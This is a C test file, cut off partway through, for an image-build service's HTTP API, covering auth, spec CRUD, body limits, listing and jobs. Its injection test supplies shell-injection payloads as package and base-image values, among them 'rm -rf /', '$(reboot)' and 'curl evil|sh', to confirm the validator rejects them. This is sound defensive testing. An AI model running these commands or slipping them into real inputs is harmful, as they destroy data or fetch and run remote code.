/*
 * The HTTP server and the API routes (service/server.c, api.c, apijson.c),
 * for real: the server runs in-process on 127.0.0.1:0 over a SQLite store
 * in a temp dir, with the real build workers started (no registry for
 * them, so they claim nothing), and libcurl talks to it. Jobs are moved
 * through their phases with the store, as a worker would.
 */
#include "util/common.h"
#include "service/server.h"

#include <curl/curl.h>
#include <fcntl.h>
#include <jansson.h>
#include <pthread.h>
#include <strings.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "service/jobs.h"
#include "service/store.h"
#include "util/buf.h"
#include "util/fs.h"
#include "util/log.h"
#include "util/sha256.h"

#include "tap.h"

#define TOKEN       "kiln-test-token-0123456789"
#define AUTH        "Authorization: Bearer " TOKEN
#define SECRET_PASS "S3cr3tPassw0rd-xyzzy"
/* base64("robot:" SECRET_PASS) */
#define SECRET_AUTH "cm9ib3Q6UzNjcjN0UGFzc3cwcmQteHl6enk="

static char tmpdir[] = "/tmp/kiln-api-XXXXXX";
static struct kiln_store *st;
static struct kiln_jobs *jobs;
static struct kiln_server *srv;  /* registry configured: saves queue builds */
static struct kiln_server *srv2; /* no registry */
static uint16_t port, port2;

/* Every response (headers and bodies) and every log message, to grep for secrets. */
static pthread_mutex_t seen_mu = PTHREAD_MUTEX_INITIALIZER;
static struct kiln_buf seen = KILN_BUF_INIT;

static void log_handler(enum kiln_log_level level, const char *msg, void *userdata)
{
    pthread_mutex_lock(&seen_mu);
    kiln_buf_addf(&seen, "log: %s\n", msg);
    pthread_mutex_unlock(&seen_mu);
}

static int64_t mono_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_ms(long ms)
{
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* ---- a small libcurl client ---- */

struct resp {
    long status;
    struct kiln_buf body;
    struct kiln_buf headers;
    CURLcode rc;
};

static void resp_release(struct resp *r)
{
    kiln_buf_release(&r->body);
    kiln_buf_release(&r->headers);
}

static size_t on_data(char *p, size_t size, size_t n, void *ud)
{
    kiln_buf_add(ud, p, size * n);
    return size * n;
}

struct upload {
    size_t left;
};

static size_t on_read(char *buf, size_t size, size_t n, void *ud)
{
    struct upload *u = ud;
    size_t k = size * n < u->left ? size * n : u->left;
    memset(buf, ' ', k);
    u->left -= k;
    return k;
}

struct reqopts {
    const char *auth; /* full header line; NULL: AUTH; "": none */
    const char *body;
    size_t body_len;       /* 0: strlen(body) */
    const char *header;    /* one extra header line, or NULL */
    size_t chunked_upload; /* > 0: send this many bytes with chunked encoding */
    long timeout_s;        /* 0: 20 */
};

static struct resp request_on(uint16_t p, const char *method, const char *path,
                              const struct reqopts *o)
{
    static const struct reqopts none = {0};
    if (!o)
        o = &none;
    struct resp r = {0, KILN_BUF_INIT, KILN_BUF_INIT, CURLE_OK};
    CURL *c = curl_easy_init();
    _cleanup_free_ char *url = kiln_xasprintf("http://127.0.0.1:%u%s", p, path);
    struct curl_slist *h = NULL;
    const char *auth = o->auth ? o->auth : AUTH;
    if (*auth)
        h = curl_slist_append(h, auth);
    if (o->header)
        h = curl_slist_append(h, o->header);
    struct upload up = {o->chunked_upload};
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_CUSTOMREQUEST, method);
    if (!strcmp(method, "HEAD"))
        curl_easy_setopt(c, CURLOPT_NOBODY, 1L);
    if (o->chunked_upload) {
        h = curl_slist_append(h, "Transfer-Encoding: chunked");
        h = curl_slist_append(h, "Content-Type: application/json");
        curl_easy_setopt(c, CURLOPT_POST, 1L);
        curl_easy_setopt(c, CURLOPT_READFUNCTION, on_read);
        curl_easy_setopt(c, CURLOPT_READDATA, &up);
    } else if (o->body) {
        h = curl_slist_append(h, "Content-Type: application/json");
        curl_easy_setopt(c, CURLOPT_POSTFIELDS, o->body);
        curl_easy_setopt(c, CURLOPT_POSTFIELDSIZE_LARGE,
                         (curl_off_t)(o->body_len ? o->body_len : strlen(o->body)));
    }
    curl_easy_setopt(c, CURLOPT_HTTPHEADER, h);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, on_data);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, &r.body);
    curl_easy_setopt(c, CURLOPT_HEADERFUNCTION, on_data);
    curl_easy_setopt(c, CURLOPT_HEADERDATA, &r.headers);
    curl_easy_setopt(c, CURLOPT_TIMEOUT, o->timeout_s ? o->timeout_s : 20L);
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    r.rc = curl_easy_perform(c);
    curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &r.status);
    curl_easy_cleanup(c);
    curl_slist_free_all(h);
    pthread_mutex_lock(&seen_mu);
    kiln_buf_add(&seen, r.headers.buf, r.headers.len);
    kiln_buf_add(&seen, r.body.buf, r.body.len);
    pthread_mutex_unlock(&seen_mu);
    return r;
}

static struct resp request(const char *method, const char *path, const struct reqopts *o)
{
    return request_on(port, method, path, o);
}

static struct resp with_body(const char *method, const char *path, const char *body)
{
    struct reqopts o = {.body = body};
    return request(method, path, &o);
}

static json_t *json_of(const struct resp *r)
{
    return json_loadb(r->body.buf, r->body.len, 0, NULL);
}

/* The value of a response header (case-insensitive name), or NULL; the caller frees it. */
static char *header_of(const struct resp *r, const char *name)
{
    size_t nl = strlen(name);
    const char *p = r->headers.buf;
    while (p && *p) {
        const char *eol = strstr(p, "\r\n");
        size_t len = eol ? (size_t)(eol - p) : strlen(p);
        if (len > nl && !strncasecmp(p, name, nl) && p[nl] == ':') {
            const char *v = p + nl + 1;
            while (*v == ' ')
                v++;
            return kiln_xstrndup(v, (size_t)(p + len - v));
        }
        p = eol ? eol + 2 : NULL;
    }
    return NULL;
}

static const char *jstr(const json_t *o, const char *path)
{
    /* "a.b.c" */
    char key[128];
    const json_t *v = o;
    while (v && *path) {
        const char *dot = strchr(path, '.');
        size_t len = dot ? (size_t)(dot - path) : strlen(path);
        if (len >= sizeof(key))
            return NULL;
        memcpy(key, path, len);
        key[len] = '\0';
        v = json_object_get(v, key);
        path = dot ? dot + 1 : path + len;
    }
    return json_string_value(v);
}

static long long jint(const json_t *o, const char *key)
{
    return json_integer_value(json_object_get(o, key));
}

/* The error code of an error response, or "". */
static const char *err_code(const json_t *o)
{
    const char *c = jstr(o, "error.code");
    return c ? c : "";
}

/* Does the error list a field `field` (with `line` when > 0)? */
static bool has_field(const json_t *o, const char *field, int line)
{
    const json_t *fields = json_object_get(json_object_get(o, "error"), "fields");
    size_t i;
    const json_t *f;
    json_array_foreach(fields, i, f)
    {
        const char *name = json_string_value(json_object_get(f, "field"));
        if (name && !strcmp(name, field) &&
            (line <= 0 || json_integer_value(json_object_get(f, "line")) == line))
            return true;
    }
    return false;
}

static void dump_on_fail(bool good, const struct resp *r)
{
    if (!good)
        printf("#   status %ld body %.600s\n", r->status, r->body.buf);
}

/* ---- fixtures ---- */

static int64_t claim_job_as(int64_t want, const char *worker)
{
    /* claim Pending jobs until `want` runs; others are finished as Failed */
    for (int i = 0; i < 1000; i++) {
        struct kiln_store_job j = {0};
        if (kiln_store_job_claim(st, worker, &j, NULL) != 1)
            return -1;
        int64_t id = j.id;
        kiln_store_job_release(&j);
        if (id == want)
            return id;
        kiln_store_job_finish(st, id, KILN_JOB_FAILED, NULL, NULL, "test: not this one", NULL);
    }
    return -1;
}

static int64_t claim_job(int64_t want)
{
    return claim_job_as(want, "test-worker");
}

static char *log_path(int64_t id)
{
    return kiln_jobs_log_path(tmpdir, id);
}

static void append_log(int64_t id, const char *text)
{
    _cleanup_free_ char *p = log_path(id);
    int fd = open(p, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
        kiln_fs_write_all(fd, text, strlen(text));
        close(fd);
    }
}

/* Save a spec with PUT; returns the queued job id (0 when none). */
static int64_t put_spec(const char *name, const char *apt)
{
    _cleanup_free_ char *path = kiln_xasprintf("/api/v1/specs/%s", name);
    _cleanup_free_ char *body = kiln_xasprintf(
        "{\"baseImage\": \"127.0.0.1:5000/kiln/base:bookworm\", \"packages\": {\"apt\": [\"%s\"]}}",
        apt);
    struct resp r = with_body("PUT", path, body);
    json_t *o = json_of(&r);
    int64_t id = json_integer_value(json_object_get(json_object_get(o, "job"), "id"));
    if (r.status != 200 && r.status != 201)
        printf("# put %s: %ld %s\n", name, r.status, r.body.buf);
    json_decref(o);
    resp_release(&r);
    return id;
}

/* ---- tests ---- */

static void test_plain_routes(void)
{
    struct resp r = request("GET", "/healthz", &(struct reqopts){.auth = ""});
    is_int(r.status, 200, "GET /healthz: 200 without a token");
    is_str(r.body.buf, "ok\n", "healthz says ok");
    resp_release(&r);

    r = request("GET", "/", &(struct reqopts){.auth = ""});
    is_int(r.status, 200, "GET /: the web page");
    _cleanup_free_ char *ct = header_of(&r, "Content-Type");
    ok(ct && !strncmp(ct, "text/html", 9), "served as html (%s)", ct ? ct : "-");
    _cleanup_free_ char *etag = header_of(&r, "ETag");
    ok(etag != NULL, "with an ETag");
    _cleanup_free_ char *csp = header_of(&r, "Content-Security-Policy");
    ok(csp && strstr(csp, "default-src 'self'"), "and a content security policy");
    resp_release(&r);

    _cleanup_free_ char *inm = kiln_xasprintf("If-None-Match: %s", etag ? etag : "\"x\"");
    r = request("GET", "/index.html", &(struct reqopts){.auth = "", .header = inm});
    is_int(r.status, 304, "If-None-Match with the ETag: 304");
    resp_release(&r);

    r = request("HEAD", "/", &(struct reqopts){.auth = ""});
    is_int(r.status, 200, "HEAD / works");
    is_int(r.body.len, 0, "without a body");
    resp_release(&r);

    r = request("GET", "/no/such/page.js", &(struct reqopts){.auth = ""});
    is_int(r.status, 404, "unknown non-API path: 404");
    resp_release(&r);

    r = request("POST", "/", &(struct reqopts){.auth = "", .body = "{}"});
    is_int(r.status, 405, "POST /: 405");
    resp_release(&r);

    r = request("DELETE", "/healthz", &(struct reqopts){.auth = ""});
    is_int(r.status, 405, "DELETE /healthz: 405");
    resp_release(&r);
}

static void test_auth(void)
{
    struct {
        const char *auth;
        const char *what;
    } bad[] = {
        {"", "no Authorization header"},
        {"Authorization: Bearer wrong-token", "a wrong token"},
        {"Authorization: Bearer " TOKEN "x", "the token with a byte more"},
        {"Authorization: Bearer", "Bearer without a token"},
        {"Authorization: Basic a2lsbjp4", "the Basic scheme"},
        {"Authorization: Bearer " TOKEN " extra", "a token with trailing junk"},
        {"Authorization: " TOKEN, "a token without a scheme"},
        {"Authorization: Bearer  ", "Bearer with blanks only"},
    };
    for (size_t i = 0; i < KILN_ARRAY_SIZE(bad); i++) {
        struct resp r = request("GET", "/api/v1/specs", &(struct reqopts){.auth = bad[i].auth});
        json_t *o = json_of(&r);
        is_int(r.status, 401, "%s: 401", bad[i].what);
        is_str(err_code(o), "unauthorized", "%s: code unauthorized", bad[i].what);
        _cleanup_free_ char *www = header_of(&r, "WWW-Authenticate");
        is_str(www, "Bearer realm=\"kiln\"", "%s: WWW-Authenticate", bad[i].what);
        json_decref(o);
        resp_release(&r);
    }
    struct resp r = request("GET", "/api/v1/nothing-here", &(struct reqopts){.auth = ""});
    is_int(r.status, 401, "an unknown API path without a token: 401, not 404");
    resp_release(&r);

    r = request("GET", "/api/v1/specs", &(struct reqopts){.auth = "authorization: bearer " TOKEN});
    is_int(r.status, 200, "scheme and header name are case-insensitive");
    resp_release(&r);

    /* a body sent without a token is refused before it is read */
    r = request("PUT", "/api/v1/specs/x", &(struct reqopts){.auth = "", .body = "{}"});
    is_int(r.status, 401, "PUT without a token: 401");
    resp_release(&r);
    struct kiln_store_spec s = {0};
    is_int(kiln_store_spec_get(st, "x", &s, NULL), -KILN_ENOTFOUND, "and nothing saved");

    r = request("GET", "/metrics", &(struct reqopts){.auth = ""});
    is_int(r.status, 200, "/metrics needs no token");
    resp_release(&r);
}

static const char *const demo_body =
    "{\"name\": \"demo\", \"baseImage\": \"127.0.0.1:5000/kiln/base:bookworm\","
    " \"description\": \"team image\","
    " \"packages\": {\"apt\": [\"curl\"], \"conda\": [], \"pip\": [\"requests>=2\"]}}";

static void test_spec_crud(void)
{
    /* POST: create */
    struct resp r = with_body("POST", "/api/v1/specs", demo_body);
    json_t *o = json_of(&r);
    is_int(r.status, 201, "POST /specs: 201");
    dump_on_fail(r.status == 201, &r);
    is_str(jstr(o, "name"), "demo", "the spec comes back");
    is_str(jstr(o, "status"), "Pending", "its first build is queued");
    ok(json_is_integer(json_object_get(o, "jobId")), "with a job id");
    ok(json_is_true(json_object_get(o, "queued")), "queued: true");
    ok(json_is_null(json_object_get(o, "image")), "no image yet");
    ok(json_is_null(json_object_get(o, "pullSecret")), "pullSecret null");
    is_str(jstr(o, "description"), "team image", "description kept");
    ok(jstr(o, "createdAt") && strlen(jstr(o, "createdAt")) == 24 &&
           jstr(o, "createdAt")[23] == 'Z',
       "createdAt is RFC 3339 UTC with ms (%s)", jstr(o, "createdAt"));
    _cleanup_free_ char *loc = header_of(&r, "Location");
    is_str(loc, "/api/v1/specs/demo", "Location header");
    const char *rev = jstr(o, "revision");
    ok(rev && strlen(rev) == 8, "an 8-digit revision");
    _cleanup_free_ char *rev1 = kiln_xstrdup(rev ? rev : "");
    int64_t job1 = jint(o, "jobId");
    json_decref(o);
    resp_release(&r);

    r = with_body("POST", "/api/v1/specs", demo_body);
    o = json_of(&r);
    is_int(r.status, 409, "POST of a taken name: 409");
    is_str(err_code(o), "conflict", "code conflict");
    json_decref(o);
    resp_release(&r);

    /* GET */
    r = request("GET", "/api/v1/specs/demo", NULL);
    o = json_of(&r);
    is_int(r.status, 200, "GET /specs/demo: 200");
    is_str(jstr(o, "baseImage"), "127.0.0.1:5000/kiln/base:bookworm", "baseImage");
    const json_t *pip = json_object_get(json_object_get(o, "packages"), "pip");
    ok(json_array_size(pip) == 1 &&
           !strcmp(json_string_value(json_array_get(pip, 0)), "requests>=2"),
       "packages as lists");
    is_int(jint(o, "jobId"), job1, "jobId is the latest job");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/specs/nope", NULL);
    o = json_of(&r);
    is_int(r.status, 404, "GET of an unknown spec: 404");
    is_str(err_code(o), "not_found", "code not_found");
    json_decref(o);
    resp_release(&r);

    /* PUT unchanged */
    r = with_body("PUT", "/api/v1/specs/demo", demo_body);
    o = json_of(&r);
    is_int(r.status, 200, "PUT unchanged: 200");
    ok(json_is_false(json_object_get(o, "queued")), "queued: false");
    ok(json_is_null(json_object_get(o, "job")), "job: null");
    is_str(jstr(o, "message"), "no change, nothing to build", "no change, nothing to build");
    is_str(jstr(o, "spec.revision"), rev1, "same revision");
    json_decref(o);
    resp_release(&r);

    /* PUT with the name only in the URL and the packages as text with comments */
    r = with_body("PUT", "/api/v1/specs/demo",
                  "{\"baseImage\": \"127.0.0.1:5000/kiln/base:bookworm\","
                  " \"description\": \"team image\", \"packages\": {\"apt\": \"# tools\\ncurl\\n\\n"
                  "  vim   # the editor\\n\", \"pip\": \"requests>=2\\n\"}}");
    o = json_of(&r);
    is_int(r.status, 200, "PUT changed: 200");
    dump_on_fail(r.status == 200, &r);
    ok(json_is_true(json_object_get(o, "queued")), "queued: true");
    is_str(jstr(o, "job.phase"), "Pending", "the job is Pending");
    ok(jstr(o, "spec.revision") && strcmp(jstr(o, "spec.revision"), rev1) != 0, "a new revision");
    is_str(jstr(o, "job.revision"), jstr(o, "spec.revision"), "the job builds it");
    ok(jstr(o, "message") && !strncmp(jstr(o, "message"), "build queued", 12), "message: %s",
       jstr(o, "message"));
    const json_t *apt =
        json_object_get(json_object_get(json_object_get(o, "spec"), "packages"), "apt");
    ok(json_array_size(apt) == 2 && !strcmp(json_string_value(json_array_get(apt, 1)), "vim"),
       "text packages come back as a list, comments dropped");
    ok(json_object_get(json_object_get(o, "job"), "targetImage") &&
           !strncmp(json_string_value(json_object_get(json_object_get(o, "job"), "targetImage")),
                    "127.0.0.1:5999/kiln/demo:", 25),
       "target image under the repo prefix");
    json_decref(o);
    resp_release(&r);

    /* PUT: new name -> 201; ImageSpec resource shape */
    r = with_body(
        "PUT", "/api/v1/specs/crd-one",
        "{\"apiVersion\": \"primehub.io/v1alpha1\", \"kind\": \"ImageSpec\","
        " \"metadata\": {\"name\": \"crd-one\", \"annotations\": {\"description\": \"d\"}},"
        " \"spec\": {\"baseImage\": \"127.0.0.1:5000/kiln/base:bookworm\","
        " \"packages\": {\"apt\": \"curl\\n\", \"pip\": [], \"conda\": []}}}");
    o = json_of(&r);
    is_int(r.status, 201, "PUT of an ImageSpec resource, new name: 201");
    dump_on_fail(r.status == 201, &r);
    is_str(jstr(o, "spec.name"), "crd-one", "saved under its name");
    is_str(jstr(o, "spec.description"), "d", "description from the annotation");
    json_decref(o);
    resp_release(&r);

    /* name mismatch */
    r = with_body("PUT", "/api/v1/specs/demo",
                  "{\"name\": \"other\", \"baseImage\": \"busybox\", \"packages\": {}}");
    o = json_of(&r);
    is_int(r.status, 422, "PUT with another name in the body: 422");
    ok(has_field(o, "name", 0), "field name");
    json_decref(o);
    resp_release(&r);

    r = with_body("PUT", "/api/v1/specs/Bad_Name", "{\"baseImage\": \"busybox\"}");
    o = json_of(&r);
    is_int(r.status, 422, "PUT of an invalid name: 422");
    ok(has_field(o, "name", 0), "field name");
    json_decref(o);
    resp_release(&r);

    r = with_body("POST", "/api/v1/specs", "{\"baseImage\": \"busybox\"}");
    o = json_of(&r);
    is_int(r.status, 422, "POST without a name: 422");
    ok(has_field(o, "name", 0), "field name is required");
    json_decref(o);
    resp_release(&r);

    r = with_body("PUT", "/api/v1/specs/needs-secret",
                  "{\"baseImage\": \"busybox\", \"pullSecret\": \"missing\"}");
    o = json_of(&r);
    is_int(r.status, 422, "a pull secret that does not exist: 422");
    ok(has_field(o, "pullSecret", 0), "field pullSecret");
    json_decref(o);
    resp_release(&r);

    r = with_body("PUT", "/api/v1/specs/demo",
                  "{\"baseImage\": \"busybox\", \"packages\": {\"apt\": [\"curl\"]},"
                  " \"colour\": \"red\"}");
    o = json_of(&r);
    is_int(r.status, 422, "an unknown field: 422");
    ok(has_field(o, "colour", 0), "names the field");
    json_decref(o);
    resp_release(&r);

    r = request("PATCH", "/api/v1/specs/demo", &(struct reqopts){.body = "{}"});
    o = json_of(&r);
    is_int(r.status, 405, "PATCH /specs/demo: 405");
    is_str(err_code(o), "method_not_allowed", "code method_not_allowed");
    _cleanup_free_ char *allow = header_of(&r, "Allow");
    ok(allow && strstr(allow, "PUT") && strstr(allow, "DELETE"), "Allow: %s", allow ? allow : "-");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/nothing-here", NULL);
    o = json_of(&r);
    is_int(r.status, 404, "an unknown API route with the token: 404");
    is_str(err_code(o), "not_found", "code not_found");
    json_decref(o);
    resp_release(&r);
}

static void test_bad_bodies(void)
{
    struct {
        const char *body;
        const char *what;
    } bad[] = {
        {"{\"name\": \"x\",", "truncated json"},
        {"not json at all", "not json"},
        {"[1, 2]", "an array"},
        {"\"text\"", "a string"},
        {"{\"a\": 1, \"a\": 2}", "duplicate keys"},
        {"", "an empty body"},
    };
    for (size_t i = 0; i < KILN_ARRAY_SIZE(bad); i++) {
        struct resp r =
            request("PUT", "/api/v1/specs/bad",
                    &(struct reqopts){.body = bad[i].body, .body_len = strlen(bad[i].body)});
        json_t *o = json_of(&r);
        is_int(r.status, 400, "%s: 400", bad[i].what);
        is_str(err_code(o), "bad_request", "%s: code bad_request", bad[i].what);
        json_decref(o);
        resp_release(&r);
    }

    /* over 1 MiB with a Content-Length: refused before reading */
    size_t big = (1 << 20) + 10;
    char *body = kiln_xmalloc(big + 1);
    memset(body, ' ', big);
    body[0] = '{';
    body[big - 1] = '}';
    body[big] = '\0';
    struct resp r =
        request("PUT", "/api/v1/specs/big", &(struct reqopts){.body = body, .body_len = big});
    json_t *o = json_of(&r);
    is_int(r.status, 413, "a body over 1 MiB: 413");
    is_str(err_code(o), "too_big", "code too_big");
    json_decref(o);
    resp_release(&r);

    /* exactly 1 MiB is fine (here: valid JSON, missing base image -> 422) */
    size_t max = 1 << 20;
    memset(body, ' ', max);
    body[0] = '{';
    body[max - 1] = '}';
    r = request("PUT", "/api/v1/specs/big", &(struct reqopts){.body = body, .body_len = max});
    is_int(r.status, 422, "a body of exactly 1 MiB is read (422: no base image)");
    resp_release(&r);
    free(body);

    /* chunked, no length: read up to the cap, then refused */
    r = request("POST", "/api/v1/specs", &(struct reqopts){.chunked_upload = 3 << 20});
    o = json_of(&r);
    is_int(r.status, 413, "a chunked body over 1 MiB: 413");
    is_str(err_code(o), "too_big", "code too_big");
    json_decref(o);
    resp_release(&r);

    struct kiln_store_spec s = {0};
    is_int(kiln_store_spec_get(st, "big", &s, NULL), -KILN_ENOTFOUND, "nothing saved");
    is_int(kiln_store_spec_get(st, "bad", &s, NULL), -KILN_ENOTFOUND, "nothing saved");
}

static void test_injection(void)
{
    /* one package per line: field errors name the index and the line */
    struct resp r =
        with_body("PUT", "/api/v1/specs/inject",
                  "{\"baseImage\": \"127.0.0.1:5000/kiln/base:bookworm\", \"packages\": {"
                  "\"apt\": \"curl\\n\\ncurl; rm -rf /\\nvim\\n$(reboot)\\n\","
                  "\"pip\": \"requests\\n--index-url=http://x\\n\","
                  "\"conda\": \"numpy\\n`id`\\n\"}}");
    json_t *o = json_of(&r);
    is_int(r.status, 422, "injection attempts in package boxes: 422");
    is_str(err_code(o), "invalid", "code invalid");
    ok(has_field(o, "packages.apt[1]", 3), "apt 'curl; rm -rf /': packages.apt[1] line 3");
    ok(has_field(o, "packages.apt[3]", 5), "apt '$(reboot)': packages.apt[3] line 5");
    ok(has_field(o, "packages.pip[1]", 2), "pip '--index-url=http://x': packages.pip[1] line 2");
    ok(has_field(o, "packages.conda[1]", 2), "conda '`id`': packages.conda[1] line 2");
    ok(!has_field(o, "packages.apt[0]", 0) && !has_field(o, "packages.apt[2]", 0),
       "the good lines are not blamed");
    dump_on_fail(r.status == 422, &r);
    json_decref(o);
    resp_release(&r);

    /* a newline inside a list item */
    r = with_body("PUT", "/api/v1/specs/inject",
                  "{\"baseImage\": \"busybox\", \"packages\": {\"apt\": [\"curl\\nrm -rf /\"],"
                  " \"pip\": [\"ok-pkg\", \"x; curl evil|sh\"]}}");
    o = json_of(&r);
    is_int(r.status, 422, "a newline in a list item: 422");
    ok(has_field(o, "packages.apt[0]", 0), "field packages.apt[0]");
    ok(has_field(o, "packages.pip[1]", 0), "field packages.pip[1]");
    const json_t *f0 = json_array_get(json_object_get(json_object_get(o, "error"), "fields"), 0);
    ok(!json_object_get(f0, "line"), "no line for list items");
    json_decref(o);
    resp_release(&r);

    r = with_body("PUT", "/api/v1/specs/inject",
                  "{\"baseImage\": \"busybox; rm -rf /\", \"packages\": {}}");
    o = json_of(&r);
    is_int(r.status, 422, "an injection in the base image: 422");
    ok(has_field(o, "baseImage", 0), "field baseImage");
    json_decref(o);
    resp_release(&r);

    struct kiln_store_spec s = {0};
    is_int(kiln_store_spec_get(st, "inject", &s, NULL), -KILN_ENOTFOUND, "nothing saved");

    /* an existing spec is left alone by a refused update */
    struct kiln_store_spec before = {0}, after = {0};
    kiln_store_spec_get(st, "demo", &before, NULL);
    r = with_body("PUT", "/api/v1/specs/demo",
                  "{\"baseImage\": \"busybox\", \"packages\": {\"apt\": "
                  "\"vim\\n--allow-unauthenticated\\n\"}}");
    o = json_of(&r);
    is_int(r.status, 422, "an option smuggled into apt: 422");
    ok(has_field(o, "packages.apt[1]", 2), "field packages.apt[1] line 2");
    json_decref(o);
    resp_release(&r);
    kiln_store_spec_get(st, "demo", &after, NULL);
    is_str(after.spec_json, before.spec_json, "the stored spec is unchanged");
    is_int(after.updated_ms, before.updated_ms, "not even touched");
    kiln_store_spec_release(&before);
    kiln_store_spec_release(&after);
}

static void test_list(void)
{
    for (int i = 0; i < 12; i++) {
        _cleanup_free_ char *name = kiln_xasprintf("list-%02d", i);
        put_spec(name, "curl");
    }
    struct resp r = request("GET", "/api/v1/specs?name_contains=list-&limit=5&offset=5", NULL);
    json_t *o = json_of(&r);
    is_int(r.status, 200, "list with a filter and a page");
    is_int(jint(o, "total"), 12, "total counts every match");
    is_int(jint(o, "limit"), 5, "limit echoed");
    is_int(jint(o, "offset"), 5, "offset echoed");
    const json_t *items = json_object_get(o, "items");
    is_int(json_array_size(items), 5, "5 items");
    is_str(jstr(json_array_get(items, 0), "name"), "list-05", "ordered by name: list-05 first");
    is_str(jstr(json_array_get(items, 4), "name"), "list-09", "list-09 last");
    is_str(jstr(json_array_get(items, 0), "status"), "Pending", "each with its status");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/specs?name_contains=LIST-&order=name&desc=1&limit=2", NULL);
    o = json_of(&r);
    items = json_object_get(o, "items");
    is_str(jstr(json_array_get(items, 0), "name"), "list-11", "desc=1: list-11 first");
    is_str(jstr(json_array_get(items, 1), "name"), "list-10", "then list-10");
    json_decref(o);
    resp_release(&r);

    put_spec("list-03", "vim"); /* the most recently updated now */
    r = request("GET", "/api/v1/specs?name_contains=list-&order=updated&desc=1&limit=1", NULL);
    o = json_of(&r);
    is_str(jstr(json_array_get(json_object_get(o, "items"), 0), "name"), "list-03",
           "order=updated&desc=1: the last saved first");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/specs?order=status", NULL);
    is_int(r.status, 200, "order=status works");
    resp_release(&r);

    r = request("GET", "/api/v1/specs", NULL);
    o = json_of(&r);
    is_int(jint(o, "limit"), 50, "default limit 50");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/specs?name_contains=%25", NULL);
    o = json_of(&r);
    is_int(jint(o, "total"), 0, "'%%' is taken literally");
    json_decref(o);
    resp_release(&r);

    const char *bad[] = {"limit=5000", "limit=abc",  "limit=-1",
                         "offset=x",   "order=size", "desc=maybe"};
    for (size_t i = 0; i < KILN_ARRAY_SIZE(bad); i++) {
        _cleanup_free_ char *path = kiln_xasprintf("/api/v1/specs?%s", bad[i]);
        r = request("GET", path, NULL);
        o = json_of(&r);
        is_int(r.status, 400, "?%s: 400", bad[i]);
        is_str(err_code(o), "bad_request", "?%s: bad_request", bad[i]);
        json_decref(o);
        resp_release(&r);
    }
}

static void test_jobs(void)
{
    struct resp r = request("GET", "/api/v1/specs/demo/jobs", NULL);
    json_t *o = json_of(&r);
    is_int(r.status, 200, "GET /specs/demo/jobs");
    const json_t *items = json_object_get(o, "items");
    is_int(jint(o, "total"), 2, "two revisions so far");
    ok(jint(json_array_get(items, 0), "id") > jint(json_array_get(items, 1), "id"), "newest first");
    ok(!json_object_get(json_array_get(items, 0), "dockerfile"), "no dockerfile in lists");
    int64_t newest = jint(json_array_get(items, 0), "id"),
            older = jint(json_array_get(items, 1), "id");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/specs/nope/jobs", NULL);
    is_int(r.status, 404, "jobs of an unknown spec: 404");
    resp_release(&r);

    _cleanup_free_ char *path = kiln_xasprintf("/api/v1/jobs/%lld", (long long)newest);
    r = request("GET", path, NULL);
    o = json_of(&r);
    is_int(r.status, 200, "GET /jobs/{id}");
    is_str(jstr(o, "spec"), "demo", "spec");
    ok(jstr(o, "dockerfile") && strstr(jstr(o, "dockerfile"), "\nFROM 127.0.0.1:5000/") &&
           strstr(jstr(o, "dockerfile"), "vim"),
       "the rendered Dockerfile");
    is_str(jstr(o, "specSnapshot.baseImage"), "127.0.0.1:5000/kiln/base:bookworm",
           "the frozen spec");
    _cleanup_free_ char *want_name = kiln_xasprintf("demo-%s", jstr(o, "revision"));
    is_str(jstr(o, "name"), want_name, "name is spec-revision");
    ok(json_is_null(json_object_get(o, "startedAt")) &&
           json_is_null(json_object_get(o, "durationSeconds")),
       "not started: null times");
    ok(json_is_false(json_object_get(o, "cancelRequested")), "cancelRequested false");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/jobs/999999", NULL);
    is_int(r.status, 404, "an unknown job: 404");
    resp_release(&r);
    r = request("GET", "/api/v1/jobs/abc", NULL);
    is_int(r.status, 404, "a job id that is no number: 404");
    resp_release(&r);
    r = request("GET", "/api/v1/jobs/999999/log", NULL);
    is_int(r.status, 404, "the log of an unknown job: 404");
    resp_release(&r);

    /* cancel a Pending job */
    _cleanup_free_ char *cancel = kiln_xasprintf("/api/v1/jobs/%lld/cancel", (long long)older);
    r = request("POST", cancel, NULL);
    o = json_of(&r);
    is_int(r.status, 202, "cancel of a Pending job: 202");
    is_str(jstr(o, "phase"), "Cancelled", "Cancelled at once");
    json_decref(o);
    resp_release(&r);
    r = request("POST", cancel, NULL);
    o = json_of(&r);
    is_int(r.status, 409, "cancel again: 409");
    is_str(err_code(o), "conflict", "code conflict");
    json_decref(o);
    resp_release(&r);
    r = request("GET", cancel, NULL);
    is_int(r.status, 405, "GET .../cancel: 405");
    resp_release(&r);
    r = request("POST", "/api/v1/jobs/999999/cancel", NULL);
    is_int(r.status, 404, "cancel of an unknown job: 404");
    resp_release(&r);

    /* rebuild */
    r = request("POST", "/api/v1/specs/demo/rebuild", NULL);
    o = json_of(&r);
    is_int(r.status, 202, "rebuild: 202");
    is_str(jstr(o, "phase"), "Pending", "a Pending job");
    ok(jint(o, "id") > newest, "a new job");
    _cleanup_free_ char *loc = header_of(&r, "Location");
    ok(loc && !strncmp(loc, "/api/v1/jobs/", 13), "Location of the job");
    json_decref(o);
    resp_release(&r);
    r = request("POST", "/api/v1/specs/nope/rebuild", NULL);
    is_int(r.status, 404, "rebuild of an unknown spec: 404");
    resp_release(&r);
}

static void test_no_registry(void)
{
    struct resp r = request_on(port2, "GET", "/api/v1/registry", NULL);
    json_t *o = json_of(&r);
